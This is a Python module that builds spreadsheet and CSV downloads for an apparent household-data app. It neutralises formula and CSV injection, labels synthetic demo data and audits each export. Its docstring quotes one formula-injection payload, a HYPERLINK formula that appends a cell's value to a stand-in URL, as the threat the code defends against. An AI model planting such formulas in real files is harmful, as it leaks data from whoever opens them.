"""Downloadable files: the one place workbooks and CSVs are made, so every cell of text stays text.

A name such as `=HYPERLINK("http://x/?"&E5,"查看")` or a masked `=***` must reach the county as the text it
is, never as a formula or a link: every workbook is opened with XLSX_OPTIONS, and a CSV cell a spreadsheet
would run (starting with = + - @ tab or CR) is prefixed with a single quote (OWASP, CSV injection).
"""

from __future__ import annotations

import io
from collections.abc import Callable

import pandas as pd

from fupin.access import audit
from fupin.access.scope import Viewer
from fupin.core.labels import DEMO_NOTE

# xlsxwriter otherwise writes text starting with '=' as a formula and text like 'http://…' as a link.
XLSX_OPTIONS: dict[str, bool] = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIME = "text/csv"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DEMO_LABEL = DEMO_NOTE  # 演示数据：全部为合成数据，不是真实数字
HEADER_ROW = 2  # 0-based row of a table's header under the title rows


def title_sheet(ws: object, title: str, *, synthetic: bool) -> None:
    """Row 1 the title; row 2 DEMO_LABEL (and the printed page header) when the data are synthetic."""
    ws.write_string(0, 0, title)  # type: ignore[attr-defined]
    if synthetic:
        ws.write_string(1, 0, DEMO_LABEL)  # type: ignore[attr-defined]
        ws.set_header(f"&C{DEMO_LABEL}")  # type: ignore[attr-defined]


def sheet(xw: pd.ExcelWriter, df: pd.DataFrame, name: str, *, title: str, synthetic: bool) -> None:
    """One table on its own sheet under its title rows (header in row 3)."""
    df.to_excel(xw, sheet_name=name, index=False, startrow=HEADER_ROW)
    title_sheet(xw.sheets[name], title, synthetic=synthetic)


def audited_file(
    build: Callable[[], tuple[bytes, int]], viewer: Viewer, action: str, *, filters: dict, unmasked: bool = False
) -> Callable[[], bytes]:
    """The `data` of st.download_button: a callable Streamlit runs when the button is clicked. It builds the
    file from what the page showed in that run (`build` returns the bytes and how many rows they hold) and
    writes the audit row then, so no file is kept between runs and only a download is an export."""

    def make() -> bytes:
        data, rows = build()
        audit.record(viewer, action, filters=filters, row_count=rows, unmasked=unmasked)
        return data

    return make


def excel_writer(buf: io.BytesIO) -> pd.ExcelWriter:
    """A pandas ExcelWriter (xlsxwriter) that writes every string as a string."""
    return pd.ExcelWriter(buf, engine="xlsxwriter", engine_kwargs={"options": XLSX_OPTIONS})


def households_xlsx(df: pd.DataFrame, *, title: str, synthetic: bool) -> bytes:
    """An XLSX of an already-masked table: title in row 1, the 演示数据 label in row 2 when synthetic, header in
    row 3, filters on."""
    buf = io.BytesIO()
    with excel_writer(buf) as xw:
        sheet(xw, df, "工作单", title=title, synthetic=synthetic)
        ws = xw.sheets["工作单"]
        ws.freeze_panes(3, 0)
        ws.autofilter(2, 0, 2 + len(df), max(len(df.columns) - 1, 0))
        for i, col in enumerate(df.columns):
            ws.set_column(i, i, max(8, min(40, len(str(col)) * 2 + 4)))
    return buf.getvalue()


def table_xlsx(df: pd.DataFrame, *, sheet_name: str, title: str, synthetic: bool) -> bytes:
    """A one-sheet XLSX of a table: title rows, header in row 3."""
    buf = io.BytesIO()
    with excel_writer(buf) as xw:
        sheet(xw, df, sheet_name, title=title, synthetic=synthetic)
    return buf.getvalue()


def _defuse(value: object) -> object:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def safe_csv(df: pd.DataFrame, *, title: str | None = None, synthetic: bool = False) -> bytes:
    """CSV bytes (UTF-8 with BOM, so Excel reads Chinese) with text cells that a spreadsheet would run as a
    formula prefixed with '; numeric and boolean columns are written as they are (-3 stays a number).
    With a title, the title and (synthetic data) DEMO_LABEL come first, one line each, above the header."""
    out = df.copy()
    for col in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col])):
            out[col] = out[col].map(_defuse)
    above = [t for t in (title, DEMO_LABEL if synthetic else None) if t]
    head = pd.DataFrame({"t": [_defuse(t) for t in above]}).to_csv(index=False, header=False, lineterminator="\r\n")
    # CRLF line ends (as Excel writes them): a CR inside a cell is then quoted, never read as a row end
    return ((head if above else "") + out.to_csv(index=False, lineterminator="\r\n")).encode("utf-8-sig")
